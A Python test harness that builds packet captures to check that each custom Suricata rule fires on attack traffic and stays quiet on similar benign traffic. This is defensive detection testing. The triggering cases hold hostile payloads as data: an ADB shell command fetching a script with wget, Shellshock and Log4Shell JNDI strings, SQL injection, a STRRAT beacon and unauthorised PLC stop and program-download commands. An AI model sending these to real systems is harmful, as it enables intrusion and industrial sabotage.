#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Every rule 9100100 to 9100335 of rules/suricata: a conversation that must fire it, and one alike that must not.

  rule_cases.py SENSOR RULES_DIR [--keep DIR]

Messages are built here from the specifications of the protocols and put into TCP or UDP conversations between hosts of the
example site. The quiet conversation differs in what the rule is about: another function, or a host that may do it."""
import argparse
import json
import os
import re
import socket
import struct
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../pcaps/make"))
from span_matrix import a4, ip4, tcp_with_sum, udp

MASTER, STRANGER, PLC = "10.30.1.5", "10.30.1.77", "10.30.1.11"
OUTSIDE, CAMERA, RECORDER, OFFICE = "203.0.113.50", "10.20.4.12", "10.10.0.30", "10.10.0.200"


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Capture:
    def __init__(self):
        self.frames, self.ts, self.port = [], 1790000000.0, 20000

    def add(self, src, dst, proto, segment):
        up = src < dst
        macs = b"\x02\0\0\0\0\x02\x02\0\0\0\0\x01" if up else b"\x02\0\0\0\0\x01\x02\0\0\0\0\x02"
        self.ts += 0.001
        self.frames.append((self.ts, macs + b"\x08\0" + ip4(a4(src), a4(dst), proto, segment, ident=len(self.frames) & 0xFFFF)))

    def tcp_segment(self, src, dst, sport, dport, seq, ack, flags, data=b""):
        s = struct.pack(">HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 64000, 0, 0) + data
        self.add(src, dst, 6, tcp_with_sum(a4(src), a4(dst), s))

    def tcp(self, src, dst, dport, messages):
        """`messages`: bytes from the client; ("s", bytes) from the server. None: only the first SYN."""
        self.port += 1
        c, s, sport = 1000, 5000, self.port
        self.tcp_segment(src, dst, sport, dport, c, 0, 2)
        if messages is None:
            return
        c += 1
        self.tcp_segment(dst, src, dport, sport, s, c, 0x12)
        s += 1
        self.tcp_segment(src, dst, sport, dport, c, s, 0x10)
        for m in messages:
            if isinstance(m, tuple):
                self.tcp_segment(dst, src, dport, sport, s, c, 0x18, m[1])
                s += len(m[1])
                self.tcp_segment(src, dst, sport, dport, c, s, 0x10)
            else:
                self.tcp_segment(src, dst, sport, dport, c, s, 0x18, m)
                c += len(m)
                self.tcp_segment(dst, src, dport, sport, s, c, 0x10)
        self.tcp_segment(src, dst, sport, dport, c, s, 0x11)
        self.tcp_segment(dst, src, dport, sport, s, c + 1, 0x11)
        self.tcp_segment(src, dst, sport, dport, c + 1, s + 1, 0x10)

    def udp(self, src, dst, dport, data, sport=None):
        self.port += 1
        self.add(src, dst, 17, udp(a4(src), a4(dst), sport or self.port, dport, data))

    def add6(self, src, dst, proto, segment):
        ends = socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst)
        if proto == 58:
            total = checksum(ends + struct.pack(">II", len(segment), proto) + segment)
            segment = segment[:2] + struct.pack(">H", total) + segment[4:]
        self.ts += 0.001
        self.frames.append((self.ts, b"\x33\x33\0\0\0\1\2\0\0\0\0\1\x86\xdd" + struct.pack(">IHBB", 0x60000000, len(segment), proto, 255) + ends + segment))

    def write(self, path):
        with open(path, "wb") as f:
            f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
            for ts, frame in self.frames:
                f.write(struct.pack("<IIII", int(ts), int(ts % 1 * 1e6), len(frame), len(frame)) + frame)


# ---- messages -------------------------------------------------------------------------------------------------------

def h(text):
    return bytes.fromhex(text)


def enip(command, body=b"", session=1):
    return struct.pack("<HHIIQI", command, len(body), session, 0, 7, 0) + body


def cip(service, path=h("2001 2401"), data=b""):
    request = bytes([service, len(path) // 2]) + path + data
    return enip(0x6F, struct.pack("<IHHHHHH", 0, 10, 2, 0, 0, 0xB2, len(request)) + request)


def dnp3_sum(data):
    crc = 0
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ 0xA6BC if crc & 1 else crc >> 1
    return struct.pack("<H", crc ^ 0xFFFF)


def dnp3(function, objects=b""):
    user = bytes([0xC0, 0xC0, function]) + objects
    head = struct.pack("<BBBBHH", 5, 0x64, 5 + len(user), 0xC4, 10, 1)
    return head + dnp3_sum(head) + b"".join(user[i:i + 16] + dnp3_sum(user[i:i + 16]) for i in range(0, len(user), 16))


def tpkt(body):
    return struct.pack(">BBH", 3, 0, 4 + len(body)) + body


def s7(function, rest=b""):
    p = bytes([function]) + rest
    return tpkt(h("02f080 3201 0000 0001") + struct.pack(">HH", len(p), 0) + p)


def s7_user(group, sub=1):
    return tpkt(h("02f080 3207 0000 0001 0008 0004 000112 0411") + bytes([0x40 + group, sub, 0]) + h("ff090000"))


def cotp(tsap):
    return tpkt(h("11e00000000100 c0010a c1020100 c202") + tsap)


def iec(kind, cot=6):
    asdu = bytes([kind, 1, cot, 0, 1, 0, 1, 0, 0, 20])
    return bytes([0x68, 4 + len(asdu), 0, 0, 0, 0]) + asdu


def bacnet(apdu, bvlc=0x0A):
    body = h("0104") + apdu
    return struct.pack(">BBH", 0x81, bvlc, 4 + len(body)) + body


def fins(command):
    return h("800002 000100 000b00 01") + h(command) + h("820000000001")


def slmp(command):
    return h("5000 00 ff ff03 00 0c00 1000") + struct.pack("<H", command) + h("0000 00000000")


def http(uri, body=b"", host="10.20.4.12"):
    return (f"POST {uri} HTTP/1.1\r\nHost: {host}\r\nContent-Type: text/xml\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body


OK = ("s", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")


def onvif(action):
    return http("/onvif/device_service", b"<s:Envelope><s:Body><tds:" + action + b"/></s:Body></s:Envelope>")


def ber(tag, value):
    return bytes([tag, len(value)]) + value


def snmp(pdu, community):
    var = ber(0x30, ber(0x30, ber(6, h("2b06010201010500")) + ber(4, b"x")))
    return ber(0x30, ber(2, b"\x01") + ber(4, community) + ber(0xA0 + pdu, ber(2, b"\x07") + ber(2, b"\0") + ber(2, b"\0") + var))


def mqtt_text(text):
    return struct.pack(">H", len(text)) + text


def mqtt_connect(user=b"", password=b""):
    flags = 2 | (0x80 if user else 0) | (0x40 if password else 0)
    body = mqtt_text(b"MQTT") + bytes([4, flags, 0, 60]) + mqtt_text(b"x1") + (mqtt_text(user) if user else b"") + (mqtt_text(password) if password else b"")
    return bytes([0x10, len(body)]) + body


def mqtt_publish(topic):
    body = mqtt_text(topic) + b"ON"
    return bytes([0x30, len(body)]) + body


CONNACK = ("s", h("20020000"))


def coap(code):
    return bytes([0x40, code, 0, 7]) + b"\xb4lamp"


WELL_KNOWN = h("40010007 bb") + b".well-known" + b"\x04core"


def adb(command, data):
    return struct.pack("<4sIIIII", command, 1, 0, len(data), sum(data), 0) + data


# ---- cases: sid → (fires, quiet), each a function that adds to a capture --------------------------------------------------

def tcp(src, dst, port, *messages):
    return lambda c: c.tcp(src, dst, port, list(messages))


def tcp_many(n, src, dst, port, *messages):
    def run(c):
        for _ in range(n):
            c.tcp(src, dst, port, list(messages))
    return run


def syns(n, src, port):
    def run(c):
        for i in range(n):
            c.tcp(src, f"198.51.100.{i + 1}", port, None)
    return run


def dgram(src, dst, port, data, n=1):
    def run(c):
        for i in range(n):
            c.udp(src, dst if n == 1 else f"10.20.8.{i + 1}", port, data)
    return run


def echo(src, dst, data):
    message = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + data
    return lambda c: c.add(src, dst, 1, message[:2] + struct.pack(">H", checksum(message)) + message[4:])


def icq(data):
    return lambda c: c.udp(OUTSIDE, OFFICE, 5442, data, 4000)


def advert(option):
    """A router's advertisement over IPv6."""
    body = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + option
    return lambda c: c.add6("fe80::1", "ff02::1", 58, body)


def portmap(procedure):
    return struct.pack(">IIIIII", 7, 0, 2, 100000, 2, procedure) + bytes(32)


def server(status, body, kind="text/html"):
    return ("s", f"HTTP/1.1 {status} OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)


def get(uri, agent="Mozilla/5.0 (X11)", more="", method="GET"):
    return f"{method} {uri} HTTP/1.1\r\nHost: 203.0.113.9\r\nUser-Agent: {agent}\r\n{more}\r\n".encode()


def netbios(message):
    return struct.pack(">I", len(message)) + message


def squeezed(original, offset):
    """A compressed message of a file server (MS-SMB2 2.2.42)."""
    return netbios(b"\xfcSMB" + struct.pack("<IHHI", original, 1, 0, offset) + bytes(40))


def hello(ticket):
    """A greeting of TLS with a session ticket."""
    extensions = struct.pack(">HH", 0x23, len(ticket)) + ticket
    body = h("0303") + bytes(range(1, 33)) + h("00 0002 c030 0100") + struct.pack(">H", len(extensions)) + extensions
    record = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return h("160301") + struct.pack(">H", len(record)) + record


def rpc_call(opnum, name):
    """A request of remote procedures that carries a name, as it lies in a message of a file server."""
    stub = bytes(20) + name.encode("utf-16le") + bytes(4)
    return netbios(b"\xfeSMB" + bytes(60) + h("0500000310000000") + struct.pack("<HHIIHH", 24 + len(stub), 0, 2, len(stub), 0, opnum) + stub)


def addressed(length):
    """An answer of the portmapper with an address of this length (RFC 1833)."""
    body = struct.pack(">IIIIII", 51, 1, 0, 0, 0, 0) + struct.pack(">I", length) + b"A" * length
    return ("s", struct.pack(">I", 0x80000000 | len(body)) + body)


def named(names, flags=0x8180):
    """An answer about names; a name is a list of labels."""
    question = b"".join(bytes([len(n)]) + n for n in names) + b"\0" + h("00010001")
    return struct.pack(">HHHHHH", 7, flags, 1, 0, 0, 0) + question


def asked(answer):
    def run(c):
        c.udp(OFFICE, "10.10.0.53", 53, named([b"example", b"vn"], 0x0100), 40001)
        c.udp("10.10.0.53", OFFICE, 40001, answer, 53)
    return run


def routed(kind):
    """A packet of IPv6 with a routing header of this type."""
    def run(c):
        echo6 = struct.pack(">BBHHH", 128, 0, 0, 1, 1)
        header = bytes([58, 2, kind, 1]) + bytes(4) + socket.inet_pton(socket.AF_INET6, "fe80::9")
        c.add6("fe80::1", "fe80::2", 43, header + echo6)
    return run


def mail(subject):
    say = ("s", b"250 ok\r\n")
    return tcp(OFFICE, OUTSIDE, 587, b"EHLO pc\r\n", say, b"MAIL FROM:<a@example.vn>\r\n", say, b"RCPT TO:<a@example.vn>\r\n", say,
               b"DATA\r\n", ("s", b"354 go\r\n"), b"From: a@example.vn\r\nSubject: " + subject + b"\r\n\r\nTime: 10:03\r\n.\r\n", say)


def first_fragment(size):
    def run(c):
        segment = struct.pack(">HHIIBBHHH", 1025, 80, 1, 0, 0x50, 2, 64000, 0, 0).ljust(1480, b"x")
        frame = ip4(a4(OUTSIDE), a4(OFFICE), 6, segment[:size], ident=7)
        frame = frame[:6] + h("2000") + frame[8:10] + h("0000") + frame[12:]
        frame = frame[:10] + struct.pack(">H", checksum(frame[:20])) + frame[12:]
        c.ts += 0.001
        c.frames.append((c.ts, b"\2\0\0\0\0\1\2\0\0\0\0\2\x08\0" + frame))
    return run


def by_stranger(port, message, make=tcp):
    """A stranger does it; the master may."""
    return make(STRANGER, PLC, port, message), make(MASTER, PLC, port, message)


def by_anybody(port, message, other, make=tcp):
    """Even the master must not; another function is fine."""
    return make(MASTER, PLC, port, message), make(MASTER, PLC, port, other)


E, D, S7, I, B, F, M = 44818, 20000, 102, 2404, 47808, 9600, 5007
CIP_READ = cip(0x0E, h("2001 2401 3007"))
CASES = {
    9100100: by_anybody(E, cip(7), CIP_READ), 9100101: by_anybody(E, cip(5), CIP_READ), 9100102: by_stranger(E, cip(6)),
    9100103: by_stranger(E, cip(16, data=b"\1\0")), 9100104: by_stranger(E, cip(2, data=b"\1\0")),
    9100105: by_stranger(E, cip(0x4D, h("9103") + b"tag\0", h("c4000100 01000000"))),
    9100106: by_stranger(E, cip(0x4C, h("9103") + b"tag\0", h("0100"))), 9100107: by_stranger(E, cip(1)),
    9100108: by_stranger(E, cip(0x4B, h("2067 2401"), h("07 4d00 01000000 0f 00 0100 a2 02 07 89 00 00"))),
    9100109: by_anybody(E, cip(9), CIP_READ), 9100110: by_stranger(E, enip(4, session=0)), 9100111: by_stranger(E, enip(0x64, session=0)),
    9100112: by_stranger(E, enip(0x65, h("01000000"), 0)),
    9100113: by_stranger(E, enip(0x63, session=0), dgram),
    **{sid: by_stranger(D, dnp3(fn, objects)) for sid, fn, objects in (
        (9100120, 2, h("5001 00 07 07 00")), (9100121, 9, h("1400 06")), (9100124, 17, b""), (9100125, 19, b""), (9100127, 20, h("3c02 06")),
        (9100126, 21, h("3c02 06")), (9100128, 25, h("4603 5b 01 0000")), (9100130, 22, h("3c02 06 0100 06")))},
    **{sid: by_anybody(D, dnp3(fn, objects), dnp3(1, h("3c01 06"))) for sid, fn, objects in (
        (9100122, 18, b""), (9100123, 16, b""), (9100129, 27, h("4603 5b 01 0000")))},
    9100140: by_stranger(S7, s7(0x28, h("00000000 0000fd 0000") + b"\x09P_PROGRAM")),
    9100141: by_anybody(S7, s7(0x28, h("00000000 0000fd 000a 01 00") + b"0800001P\x05_DELE"), s7(0x04, h("01 120a10020001 0001 84 000000"))),
    9100142: by_anybody(S7, s7(0x28, h("00000000 0000fd 0000") + b"\x05_MODU"), s7(0x04, h("01 120a10020001 0001 84 000000"))),
    9100143: by_stranger(S7, s7(0x04, h("01 120a10020001 0001 84 000000"))),
    9100144: by_stranger(S7, s7_user(5)), 9100145: by_stranger(S7, s7_user(3)), 9100146: by_stranger(S7, s7_user(7, 2)),
    9100147: by_stranger(S7, s7_user(1)), 9100148: (tcp(STRANGER, PLC, S7, cotp(h("0102"))), tcp(STRANGER, PLC, S7, cotp(h("0302")))),
    9100149: (tcp(OUTSIDE, PLC, S7, s7(0xF0, h("00 0001 0001 01e0"))), tcp(MASTER, PLC, S7, s7(0xF0, h("00 0001 0001 01e0")))),
    9100159: (tcp(MASTER, PLC, S7, *[s7(0x05, h("01 120a10020001 0001 84 000000 ff04000801"))] * 25),
              tcp(MASTER, PLC, S7, *[s7(0x05, h("01 120a10020001 0001 84 000000 ff04000801"))] * 8)),
    9100150: by_anybody(I, iec(105), iec(100)), 9100151: by_stranger(I, iec(100)), 9100152: by_stranger(I, iec(101)),
    9100153: by_stranger(I, iec(103)), 9100154: by_stranger(I, iec(110)), 9100155: by_stranger(I, iec(122, 13)),
    9100156: by_stranger(I, h("680413000000")),
    9100157: (tcp(MASTER, PLC, I, *[("s", iec(45, 0x47))] * 6), tcp(MASTER, PLC, I, *[("s", iec(45, 7))] * 6)),
    **{sid: by_stranger(B, bacnet(h("000501") + bytes([fn]) + h("0c0080000119553e44428c00003f")), dgram) for sid, fn in (
        (9100160, 15), (9100161, 16), (9100164, 7), (9100166, 10))},
    **{sid: by_anybody(B, bacnet(h("000501") + bytes([fn]) + h("0900")), bacnet(h("0005010c0c008000011955")), dgram) for sid, fn in (
        (9100162, 20), (9100163, 17), (9100165, 11))},
    9100167: by_stranger(B, bacnet(h("1008"), 0x0B), dgram), 9100168: by_stranger(B, bacnet(h("1006 a47e0b1504 b40a000000"), 0x0B), dgram),
    9100169: by_stranger(B, h("810500060e10"), dgram), 9100170: by_stranger(B, h("8101000e 0a1e0105bac0ffffffff"), dgram),
    9100171: (dgram(OUTSIDE, PLC, B, bacnet(h("0005010c0c008000011955"))), dgram(MASTER, PLC, B, bacnet(h("0005010c0c008000011955")))),
    9100172: by_anybody(F, fins("0402"), fins("0101"), dgram), 9100173: by_stranger(F, fins("0401"), dgram),
    9100174: by_stranger(F, fins("0307"), dgram), 9100175: by_stranger(F, fins("0102"), dgram), 9100176: by_stranger(F, fins("0501"), dgram),
    9100177: by_anybody(M, slmp(0x1002), slmp(0x0401)), 9100178: by_anybody(M, slmp(0x1006), slmp(0x0401)), 9100179: by_stranger(M, slmp(0x1401)),
    9100180: by_stranger(4840, b"HELF" + h("34000000 00000000") + h("00000100 00000100 00000000 00000000 14000000") + b"opc.tcp://10.30.1.11"),
    9100181: by_anybody(4840, b"OPNF" + h("60000000 00000000 2f000000") + b"http://opcfoundation.org/UA/SecurityPolicy#None",
                        b"OPNF" + h("60000000 00000000 38000000") + b"http://opcfoundation.org/UA/SecurityPolicy#Basic256Sha256"),
    9100182: by_stranger(1911, b"fox a 1 -1 fox hello\n{\nfox.version=s:1.0\nid=i:1\n};;\n"),
    9100183: (tcp(OUTSIDE, "10.20.8.9", 10001, b"\x01I20100\n"), tcp(OFFICE, "10.20.8.9", 10001, b"\x01I20100\n")),
    9100184: (tcp(OFFICE, "10.20.8.9", 10001, b"\x01S60201Diesel\n"), tcp(OFFICE, "10.20.8.9", 10001, b"\x01I20100\n")),
    9100185: by_stranger(3671, h("06100205 001a 0801 0a1e014d 0e57 0801 0a1e014d 0e57 04040200"), dgram),
    9100186: (dgram(OUTSIDE, "10.20.8.9", 3671, h("06100203 000e 0801 cb007132 0e57")), dgram(OFFICE, "10.20.8.9", 3671, h("06100203 000e 0801 0a0a00c8 0e57"))),
    9100187: (dgram(OFFICE, CAMERA, 161, snmp(3, b"private")), dgram(OFFICE, CAMERA, 161, snmp(3, b"private-2"))),
    9100188: (dgram(OUTSIDE, CAMERA, 161, snmp(0, b"public")), dgram(OFFICE, CAMERA, 161, snmp(0, b"public"))),
    9100189: (dgram(OUTSIDE, CAMERA, 1900, b"M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n"), dgram(OFFICE, CAMERA, 1900, b"M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n")),
    9100190: (tcp(CAMERA, "10.20.4.1", 5000, http("/ctl/IPConn", b"<u:AddPortMapping/>"), OK), tcp(CAMERA, "10.20.4.1", 5000, http("/ctl/IPConn", b"<u:GetStatusInfo/>"), OK)),
    9100191: (tcp(OUTSIDE, CAMERA, 5555, adb(b"CNXN", b"host::\0")), tcp(OUTSIDE, CAMERA, 5555, b"hello host:: CNXN")),
    9100192: (tcp(OUTSIDE, CAMERA, 5555, adb(b"OPEN", b"shell:cd /data; wget http://203.0.113.9/a.sh\0")), tcp(OUTSIDE, CAMERA, 5555, adb(b"OPEN", b"shell:getprop ro.serialno\0"))),
    9100193: (tcp(OUTSIDE, "10.10.0.20", 1883, mqtt_connect(), CONNACK, mqtt_publish(b"cmnd/lamp/POWER")), tcp(OUTSIDE, "10.10.0.20", 1883, mqtt_connect(), CONNACK, mqtt_publish(b"stat/lamp/POWER"))),
    9100194: (tcp(CAMERA, "10.10.0.20", 1883, mqtt_connect(b"admin", b"admin"), CONNACK), tcp(CAMERA, "10.10.0.20", 1883, mqtt_connect(b"admin", b"admin-2026"), CONNACK)),
    9100195: (dgram(CAMERA, "", 5683, WELL_KNOWN, 12), dgram(CAMERA, "", 5683, WELL_KNOWN, 3)),
    9100196: (dgram(OUTSIDE, "10.20.8.9", 5683, coap(4)), dgram(OUTSIDE, "10.20.8.9", 5683, coap(1))),
    **{sid: (tcp(OFFICE, CAMERA, 80, onvif(action), OK), tcp(RECORDER, CAMERA, 80, onvif(action), OK)) for sid, action in (
        (9100200, b"SystemReboot"), (9100201, b"SetSystemFactoryDefault"), (9100202, b"CreateUsers"), (9100203, b"UpgradeSystemFirmware"))},
    9100204: (tcp_many(11, OFFICE, CAMERA, 554, b"DESCRIBE rtsp://10.20.4.12/1 RTSP/1.0\r\nCSeq: 1\r\n\r\n", ("s", b"RTSP/1.0 401 Unauthorized\r\nCSeq: 1\r\n\r\n")),
              tcp_many(11, RECORDER, CAMERA, 554, b"OPTIONS * RTSP/1.0\r\nCSeq: 1\r\n\r\n", ("s", b"RTSP/1.0 200 OK\r\nCSeq: 1\r\n\r\n"))),
    9100205: (tcp_many(11, OFFICE, CAMERA, 554, b"DESCRIBE rtsp://10.20.4.12/x RTSP/1.0\r\nCSeq: 1\r\n\r\n", ("s", b"RTSP/1.0 404 Not Found\r\nCSeq: 1\r\n\r\n")),
              tcp_many(3, OFFICE, CAMERA, 554, b"DESCRIBE rtsp://10.20.4.12/x RTSP/1.0\r\nCSeq: 1\r\n\r\n", ("s", b"RTSP/1.0 404 Not Found\r\nCSeq: 1\r\n\r\n"))),
    9100206: (tcp(OUTSIDE, CAMERA, 23, b"root\r\n", b"enable\r\n", b"system\r\n", b"shell\r\n", b"sh\r\n"), tcp(OFFICE, CAMERA, 23, b"root\r\n", b"enable\r\n", b"show version\r\n")),
    9100207: (syns(25, CAMERA, 37215), syns(10, CAMERA, 37215)),
    9100300: (dgram(OFFICE, PLC, 48899, h("03661471 00000000 06000000 c0a801c7 0101 1027 05000000")),
              dgram(OFFICE, PLC, 48899, h("03661471 00000000 01000000 c0a801c7 0101 1027 00000000"))),
    9100301: (echo(OUTSIDE, OFFICE, b"shell\0".ljust(800, b"\0")), echo(OUTSIDE, OFFICE, bytes(range(256)) * 3)),
    9100302: (dgram(OUTSIDE, OFFICE, 1434, b"\4" + b"\1" * 110), dgram(OUTSIDE, OFFICE, 1434, b"\4" + b"INSTANCE1")),
    9100303: (icq(h("0500 0000000000 12020000000000000000022c00050000") + b"x" * 600), icq(h("0500 0000000000 12020000000000000000022c00050000"))),
    9100304: (tcp(OUTSIDE, OFFICE, 80, b"GET /a HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :; }; id\r\n\r\n"), tcp(OUTSIDE, OFFICE, 80, http("/a"))),
    9100305: (tcp(OUTSIDE, OFFICE, 80, http("/cgi-bin/.%2e/%2e%2e/bin/sh")), tcp(OUTSIDE, OFFICE, 80, http("/a%20b/../c.html"))),
    9100306: (tcp(OUTSIDE, OFFICE, 80, http("/?q=${jNdi:ldap://203.0.113.9/a}")), tcp(OUTSIDE, OFFICE, 80, http("/?q=${java:version}"))),
    9100307: (tcp(OUTSIDE, OFFICE, 80, http("/login", b"u=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D")), tcp(OUTSIDE, OFFICE, 80, http("/login", b"u=%24%7Bjava%7D"))),
    9100308: (advert(h("1908 0000 ffffffff") + b"A" * 56), advert(h("1903 0000 ffffffff") + b"A" * 16)),
    9100309: (dgram(OUTSIDE, OFFICE, 111, portmap(1)), dgram(OUTSIDE, OFFICE, 111, portmap(3))),
    9100310: (tcp(OFFICE, OUTSIDE, 8219, b"140\r\n\r\n", b"ping|STRRAT|C4B4A367|USER-PC|admin"), tcp(OFFICE, OUTSIDE, 8219, b"ping|C4B4A367|USER-PC|admin")),
    9100311: (tcp(OUTSIDE, OFFICE, 80, get("/a?id=1%27+union+all+select+null%2Cversion%28%29")), tcp(OUTSIDE, OFFICE, 80, get("/s?q=trade+union+select+committee"))),
    9100312: (tcp(OUTSIDE, OFFICE, 80, get("/v?f=1"), server(200, b"<pre>root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:")),
              tcp(OUTSIDE, OFFICE, 80, get("/v?f=1"), server(200, b"<pre>root: the part of a plant below ground"))),
    9100313: (tcp(OUTSIDE, CAMERA, 33333, b"\x7fELF\2\1\1" + bytes(200)), tcp(OUTSIDE, CAMERA, 33333, b"ELF" + bytes(200))),
    9100314: (tcp(OUTSIDE, CAMERA, 33333, b"#!/bin/sh\nid\n"), tcp(OUTSIDE, CAMERA, 33333, b"#!/bin/false\n")),
    9100315: (tcp(OUTSIDE, OFFICE, 445, squeezed(0xFFFFFFFF, 16)), tcp(OUTSIDE, OFFICE, 445, squeezed(4096, 16))),
    9100316: (tcp(OUTSIDE, OFFICE, 445, squeezed(4096, 0xFFFFFFF0)), tcp(OUTSIDE, OFFICE, 445, squeezed(4096, 0))),
    9100317: (tcp(OFFICE, OUTSIDE, 111, addressed(0), addressed(1000)), tcp(OFFICE, OUTSIDE, 111, addressed(0), addressed(20))),
    9100318: (tcp(OFFICE, OUTSIDE, 443, h("0000000200000000")), tcp(OFFICE, OUTSIDE, 443, h("0000000200000001"))),
    9100319: (tcp(OFFICE, OUTSIDE, 443, h("0000000200000000"), ("s", h("18000102 805a242a"))), tcp(OFFICE, OUTSIDE, 443, h("0000000100000000"), ("s", h("18000102 805a242a")))),
    9100320: (tcp(OUTSIDE, OFFICE, 80, get("/", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)")), tcp(OUTSIDE, OFFICE, 80, get("/"))),
    9100321: (tcp(OUTSIDE, OFFICE, 80, get("/", more="From: " + "a-" * 700 + "\r\n")),
              tcp(OUTSIDE, OFFICE, 80, get("/", more="Authorization: Bearer " + "a-" * 700 + "\r\n"))),
    9100322: (tcp(OUTSIDE, OFFICE, 5556, hello(bytes(16) + bytes(range(1, 200)))), tcp(OUTSIDE, OFFICE, 5556, hello(bytes(range(1, 216))))),
    9100323: (tcp(OFFICE, "10.10.0.10", 445, rpc_call(43, "G$BCKUPKEY_PREFERRED")), tcp(OFFICE, "10.10.0.10", 445, rpc_call(43, "G$PREFERRED"))),
    9100324: (tcp(OFFICE, "10.10.0.10", 445, rpc_call(17, "Domain Admins")), tcp(OFFICE, "10.10.0.10", 445, rpc_call(17, "Domain Users"))),
    9100325: (tcp(OFFICE, OUTSIDE, 80, get("/x.dotm?raw=true", "Microsoft Office Existence Discovery", method="HEAD")),
              tcp(OFFICE, OUTSIDE, 80, get("/x.html", "Microsoft Office Existence Discovery", method="HEAD"))),
    9100326: (tcp(OFFICE, OUTSIDE, 80, get("/far.msi", "Windows Installer")), tcp(OFFICE, OUTSIDE, 80, get("/far.msi"))),
    9100328: (tcp(OFFICE, OUTSIDE, 80, get("/7.bin", "qGridline"), server(200, b"MZ" + bytes(76) + b"!This program cannot be run", "application/octet-stream")),
              tcp(OFFICE, OUTSIDE, 80, get("/7.bin", "setup/1.2"), server(200, b"MZ" + bytes(76) + b"!This program cannot be run", "application/octet-stream"))),
    9100329: (asked(named([b"a" * 60] * 20)), asked(named([b"a" * 60] * 3))),
    9100330: (asked(named([b"example", b"vn"], 0x0100)[:15]), asked(named([b"example", b"vn"]))),
    9100331: (routed(0), routed(4)),
    9100332: (mail(b"SC_John/HR1-PC"), mail(b"SC meeting / room 1")),
    9100333: by_anybody(D, dnp3(5, h("0c01 28 0100 0700 03")), dnp3(5, h("0c01 28 0100 0700 03 01 64000000 64000000 00"))),
    9100334: (first_fragment(16), first_fragment(1480)),
    9100335: (tcp(OFFICE, "10.10.0.10", 3268, h("30840000003d 02010a 638400000034 0400 0a0102 0a0100 020100 020100 010100 a48400000020 0414")
                  + b"servicePrincipalName" + h("308400000003 81012f") + h("308400000000")),
              tcp(OFFICE, "10.10.0.10", 3268, h("30840000003d 02010a 638400000034 0400 0a0102 0a0100 020100 020100 010100 a38400000020 0414")
                  + b"servicePrincipalName" + h("0408") + b"HTTP/srv" + h("308400000000"))),
}
SILENT = {9100327}  # only marks the conversation for the rule after it


def fired(sensor, rules, capture, out):
    os.makedirs(out)
    capture.write(os.path.join(out, "in.pcap"))
    done = subprocess.run([sensor, "-r", os.path.join(out, "in.pcap"), "-c", os.path.join(rules, "vars.yaml"), "-S", rules,
                           "-l", out, "--quiet", "--set", "event.types=alert", "--set", "sandbox.enabled=false"], capture_output=True, text=True, timeout=1500, check=False)
    if done.returncode:
        sys.exit(f"{sensor}: status {done.returncode}: {done.stderr[-800:]}")
    with open(os.path.join(out, "eve.json"), encoding="utf-8") as f:
        return {json.loads(line)["alert"]["signature_id"] for line in f if '"event_type":"alert"' in line}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("sensor")
    ap.add_argument("rules")
    ap.add_argument("--keep")
    a = ap.parse_args()
    sids = set()
    for name in ("iot-ot.rules", "dc.rules"):
        with open(os.path.join(a.rules, name), encoding="utf-8") as f:
            sids |= {int(s) for s in re.findall(r"sid:(9100[123]\d\d);", f.read())}
    faults = [f"{sid}: has no case" for sid in sorted(sids - set(CASES) - SILENT)] + [f"{sid}: there is no such rule" for sid in sorted(set(CASES) - sids)]
    with tempfile.TemporaryDirectory(prefix="tramgac-rules.") as work:
        for sid, (fires, quiet) in sorted(CASES.items()):
            for what, build, expected in (("fires", fires, True), ("quiet", quiet, False)):
                capture = Capture()
                build(capture)
                got = fired(a.sensor, a.rules, capture, os.path.join(a.keep or work, f"{sid}-{what}"))
                if (sid in got) != expected:
                    faults.append(f"{sid} {what}: {sorted(got)}")
    print("\n".join(faults + [f"{len(CASES)} rules, each fired and each kept quiet: {len(faults)} faults"]))
    sys.exit(1 if faults else 0)


if __name__ == "__main__":
    main()
